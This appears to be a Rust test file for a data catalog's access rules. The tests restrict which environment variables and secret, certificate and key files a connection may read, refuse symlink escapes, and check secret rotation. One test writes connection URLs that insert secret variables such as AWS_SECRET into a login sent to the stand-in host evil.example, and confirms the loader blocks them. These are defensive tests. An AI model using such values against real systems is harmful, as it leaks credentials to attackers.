//! What of the machine a catalog may read (B17), and secrets that change (A13).

use std::sync::Arc;
use std::time::Duration;

use pressrun_domain::catalog::SourceSettings;
use pressrun_domain::postgres::PostgresAddress;
use pressrun_testkit::{FakeClock, instant};

use super::*;
use crate::{CatalogHandle, CatalogRules};

fn rules(environment: &[&str], secret_folders: &[&Path]) -> CatalogRules {
    CatalogRules {
        environment: Some(environment.iter().map(|name| (*name).to_owned()).collect()),
        secret_folders: Some(secret_folders.iter().map(|folder| (*folder).to_owned()).collect()),
        ..CatalogRules::open()
    }
}

fn with_connection(settings: &str) -> TempDir {
    let dir = good();
    write(dir.path(), "connections.yaml", format!("connections: {{ warehouse: {{ kind: postgres, {settings} }} }}\n"));
    dir
}

fn url(catalog: &Catalog) -> String {
    match &catalog.connections["warehouse"].source {
        SourceSettings::Postgres { url, .. } => url.expose().to_owned(),
        other => panic!("{other:?}"),
    }
}

fn clock() -> Arc<FakeClock> {
    Arc::new(FakeClock::at(instant("2026-03-01T09:00:00Z")))
}

#[test]
fn b17_a_variable_that_the_operator_does_not_list_is_refused_with_the_key_that_opens_it() {
    let environment = |name: &str| matches!(name, "WAREHOUSE_URL" | "AWS_SECRET" | "PRESSRUN_X").then(|| "postgres://x@db/x".to_owned());
    let rules = rules(&["WAREHOUSE_*"], &[]);
    let load = |dir: &TempDir| load_with(dir.path(), LoadOptions { environment: &environment, rules: &rules, ..LoadOptions::default() });
    assert_eq!(url(&load(&with_connection("url: '${WAREHOUSE_URL}'")).unwrap()), "postgres://x@db/x");
    for (name, hint) in [
        ("AWS_SECRET", "let the operator add `AWS_SECRET` to [catalog] environment"),
        ("PRESSRUN_X", "variables of the server itself are never open"),
        ("NOT_SET", "[catalog] environment"),
    ] {
        let problems = load(&with_connection(&format!("url: 'postgres://${{{name}}}@evil.example/x'"))).unwrap_err();
        assert!(problems[0].message.contains("is not open to the catalog") && problems[0].hint.contains(hint), "{problems:#?}");
    }
}

#[cfg(unix)]
#[test]
fn b17_a_secret_file_is_in_the_catalog_or_in_a_folder_that_the_operator_lists() {
    let outside = TempDir::new().unwrap();
    write(outside.path(), "url", "postgres://outside@db/x\n");
    let absolute = format!("url_file: '{}'", outside.path().join("url").display());
    let load = |dir: &TempDir, rules: &CatalogRules| load_with(dir.path(), LoadOptions { rules, ..LoadOptions::default() });

    let inside = with_connection("url_file: secret/url");
    std::fs::create_dir(inside.path().join("secret")).unwrap();
    write(inside.path(), "secret/url", "postgres://inside@db/x");
    assert_eq!(url(&load(&inside, &rules(&[], &[])).unwrap()), "postgres://inside@db/x");

    assert_eq!(url(&load(&with_connection(&absolute), &rules(&[], &[outside.path()])).unwrap()), "postgres://outside@db/x");
    // A link inside is judged by where it leads.
    std::fs::remove_file(inside.path().join("secret/url")).unwrap();
    std::os::unix::fs::symlink(outside.path().join("url"), inside.path().join("secret/url")).unwrap();
    for dir in [&with_connection(&absolute), &inside] {
        let problems = load(dir, &rules(&[], &[])).unwrap_err();
        assert!(problems[0].hint.contains("[catalog] secret_folders"), "{problems:#?}");
        assert!(!format!("{problems:?}").contains("outside@db"));
    }
}

#[cfg(unix)]
#[test]
fn b17_a_secret_file_that_leads_out_later_is_not_read_at_the_next_login_either() {
    let outside = TempDir::new().unwrap();
    write(outside.path(), "key", "hunter2");
    let dir = with_connection("host: db, user: x, password_file: pw");
    write(dir.path(), "pw", "s3cret");
    let handle = CatalogHandle::open_with(dir.path(), clock(), rules(&[], &[])).unwrap();
    let file = |handle: &CatalogHandle| match &handle.current().connections["warehouse"].source {
        SourceSettings::Postgres { secret_file, .. } => secret_file.clone(),
        other => panic!("{other:?}"),
    };
    assert!(file(&handle).is_some());
    std::fs::remove_file(dir.path().join("pw")).unwrap();
    std::os::unix::fs::symlink(outside.path().join("key"), dir.path().join("pw")).unwrap();
    handle.reload().unwrap();
    assert!(handle.status().problems[0].hint.contains("[catalog] secret_folders"), "{:#?}", handle.status().problems);
    assert!(url(&handle.current()).contains("s3cret") && file(&handle).is_none(), "what it was stays, and the file is left alone");
}

#[cfg(unix)]
#[test]
fn b17_certificates_and_keys_are_files_that_the_catalog_may_read_as_well() {
    let outside = TempDir::new().unwrap();
    for name in ["root.crt", "client.crt", "client.key"] {
        write(outside.path(), name, "PEM");
    }
    let at = |name: &str| outside.path().join(name).display().to_string();
    let load = |dir: &TempDir, rules: &CatalogRules| load_with(dir.path(), LoadOptions { rules, ..LoadOptions::default() });
    let (root, pair) = (at("root.crt"), format!("sslcert: '{}', sslkey: '{}'", at("client.crt"), at("client.key")));
    for (case, settings) in [
        ("a key of its own", format!("host: db, user: x, sslrootcert: '{root}'")),
        ("a certificate to show", format!("host: db, user: x, {pair}")),
        ("in the address", format!("url: 'postgres://x@db/x?sslrootcert={root}'")),
        ("among the parameters", format!("host: db, user: x, parameters: {{ sslrootcert: '{root}' }}")),
    ] {
        let dir = with_connection(&settings);
        let problems = load(&dir, &rules(&[], &[])).unwrap_err();
        assert!(problems[0].hint.contains("[catalog] secret_folders"), "{case}: {problems:#?}");
        assert!(load(&dir, &rules(&[], &[outside.path()])).is_ok(), "{case}: in a folder that is listed");
        assert!(load(&dir, &CatalogRules::open()).is_ok(), "{case}: with one's own rights");
    }
    let inside = with_connection("url: 'postgres://x@db/x?sslrootcert=root.crt'");
    write(inside.path(), "root.crt", "PEM");
    let found = PostgresAddress::parse(&url(&load(&inside, &rules(&[], &[])).unwrap())).unwrap().ssl_root_cert.unwrap();
    assert_eq!(Path::new(&found), inside.path().canonicalize().unwrap().join("root.crt"), "not where a process happens to run");
    assert!(load(&with_connection("host: db, user: x, sslrootcert: system"), &rules(&[], &[])).is_ok());
}

#[cfg(unix)]
#[test]
fn b17_a_certificate_that_leads_out_later_takes_its_connection_along() {
    let outside = TempDir::new().unwrap();
    write(outside.path(), "root.crt", "PEM");
    let dir = with_connection("host: db, user: x, sslrootcert: root.crt");
    write(dir.path(), "root.crt", "PEM");
    let handle = CatalogHandle::open_with(dir.path(), clock(), rules(&[], &[])).unwrap();
    assert!(handle.current().connections.contains_key("warehouse"));
    std::fs::remove_file(dir.path().join("root.crt")).unwrap();
    std::os::unix::fs::symlink(outside.path().join("root.crt"), dir.path().join("root.crt")).unwrap();
    handle.reload().unwrap();
    assert!(handle.status().problems[0].hint.contains("[catalog] secret_folders"), "{:#?}", handle.status().problems);
    assert!(handle.current().connections.is_empty(), "nobody opens it");
    // A fault of another kind leaves what it was in force.
    std::fs::remove_file(dir.path().join("root.crt")).unwrap();
    write(dir.path(), "root.crt", "PEM");
    handle.reload().unwrap();
    let text = std::fs::read_to_string(dir.path().join("connections.yaml")).unwrap();
    write(dir.path(), "connections.yaml", text.replace("user: x", "user: [x]"));
    handle.reload().unwrap();
    assert!(url(&handle.current()).contains("root.crt"), "{:#?}", handle.status().problems);
}

#[tokio::test]
async fn a13_a_rotated_secret_is_taken_by_itself() {
    let outside = TempDir::new().unwrap();
    write(outside.path(), "url", "postgres://first@db/x");
    let dir = with_connection(&format!("url_file: '{}'", outside.path().join("url").display()));
    let handle = CatalogHandle::open_with(dir.path(), clock(), CatalogRules::open()).unwrap();
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let watching = tokio::spawn(Arc::clone(&handle).watch(async { drop(stopped.await) }));
    // As secrets are rotated: another file takes the name.
    write(outside.path(), "url.new", "postgres://second@db/x");
    std::fs::rename(outside.path().join("url.new"), outside.path().join("url")).unwrap();
    let taken = async {
        while url(&handle.current()) != "postgres://second@db/x" {
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    };
    tokio::time::timeout(Duration::from_mins(1), taken).await.unwrap();
    drop(stop);
    watching.await.unwrap();
}
